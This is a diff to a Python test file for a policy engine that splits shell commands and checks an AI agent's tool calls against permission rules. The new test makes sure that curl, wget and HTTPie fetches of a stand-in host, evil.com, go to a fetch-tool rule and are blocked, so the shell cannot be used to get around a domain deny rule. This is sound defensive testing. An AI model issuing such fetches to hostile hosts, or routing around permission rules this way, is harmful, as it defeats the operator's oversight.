@@ -11,7 +11,10 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 import policyc
+from policyc.grammar import parse_bundle
+from policyc.reference import ReferenceEngine
 from policyc.runtime.paths import NO_GIT, files_named_under, stand_in_text
+from policyc.runtime.splitters import shell as shell_module
 from policyc.runtime.splitters.shell import (
     DEFAULT_CONFIG,
     MAX_LENGTH,
@@ -203,6 +206,9 @@ def test_an_artifact_naming_an_unknown_splitter_is_refused():
                     "kubectl",
                     "exec",
                     "run",
+                    "curl",
+                    "wget",
+                    "evil.com",
                     "rsync",
                     "-e",
                     "--rsh=x",
@@ -257,7 +263,7 @@ def test_an_artifact_naming_an_unknown_splitter_is_refused():
 def test_the_plain_fast_path_agrees_with_the_general_path(words, glue):
 
     command = words[0] + "".join(g + w for g, w in zip(glue, words[1:], strict=False))
-    # (and with option views, as for a policy denying `rm -rf:*` and `kubectl delete -A:*`)
+    # (and with option views, as for a policy denying `rm -rf:*`, and a fetch tool)
     for config in (DEFAULT_CONFIG, _VIEWS):
         try:
             fast = split(command, config)
@@ -280,7 +286,10 @@ def _views_config(*specs):
     return DEFAULT_CONFIG._replace(reorder=shapes)
 
 
-_VIEWS = _views_config("rm -rf:*", "git push --force:*", "kubectl delete -A:*", "x* -ab", "ls a")
+# (and what curl fetches sent to a fetch tool)
+_VIEWS = _views_config(
+    "rm -rf:*", "git push --force:*", "kubectl delete -A:*", "x* -ab", "ls a"
+)._replace(fetch_tool="web")
 
 
 def _decides(deny, blocked, allowed):
@@ -407,6 +416,50 @@ def test_a_rules_options_are_met_as_a_set_and_its_operands_in_order(data):
     given = part_operands[: len(rule_operands)] == rule_operands
     met = has and given and (prefix or len(part_operands) == len(rule_operands))
     _decides(f"bash({rule})", [part] if met else [], [] if met else [part])
+
+
+def test_what_curl_wget_and_httpie_fetch_goes_to_the_fetch_tool():
+    """`curl https://evil.com` fetched past `WebFetch(domain:evil.com)`: with
+    a fetch tool (`split shell fetch=web`; Claude Code's Bash sends to
+    WebFetch), each URL curl, wget, HTTPie and xh fetch is a constraint
+    subject of it, read as the program reads one with no scheme; the
+    programs' other words are not URLs (`-H`, `-d`, `-o`'s values)."""
+    from policyc.runtime.splitters import transfers
+
+    assert transfers.FETCHERS == shell_module._FETCHERS
+    config = DEFAULT_CONFIG._replace(fetch_tool="web")
+
+    def fetched(command):
+        return [s["args"]["url"] for s in split(command, config) if s.get("tool") == "web"]
+
+    assert fetched("curl -s -H 'X: a.com' -d @b.json -o c.html https://evil.com/x") == [
+        "https://evil.com/x"
+    ]
+    assert fetched("curl evil.com --url https://a.com") == ["http://evil.com", "https://a.com"]
+    assert fetched("wget -q -O /dev/null -e robots=off evil.com/p") == ["http://evil.com/p"]
+    assert fetched("http POST evil.com a=b") == fetched("xh POST evil.com") == ["http://evil.com"]
+    assert fetched("https evil.com") == fetched("xhs evil.com") == ["https://evil.com"]
+    assert fetched("http :8000/x") == ["http://localhost:8000/x"]
+    assert fetched("sudo curl -fsSL evil.com | jq .") == ["http://evil.com"]
+    assert fetched("echo curl evil.com") == fetched("curl") == []
+    assert [s for s in split("curl evil.com") if s.get("tool") == "web"] == []  # no fetch tool
+
+    text = (
+        "default allow\ntool bash glob(command) split shell fetch=web\ntool web domain(url)\n"
+        "deny web(evil.com)\nask web(*.corp.example)\n"
+    )
+    table = policyc.load(policyc.compile_text(text, "t.policy"))
+    reference = ReferenceEngine(parse_bundle(text, "t.policy"))
+    for command, action in [
+        ("curl https://evil.com/x", "block"),
+        ("wget -qO- www.evil.com", "block"),
+        ("curl -s https://api.corp.example", "defer"),
+        ("curl https://example.org", "allow"),
+        ("git status", "allow"),
+    ]:
+        for engine in (table, reference):
+            got = engine.decide("bash", {"command": command}, cwd="/r")
+            assert got.action == action, (command, engine)
 
 
 def _plain_by_regex(command: str) -> list[dict] | None:
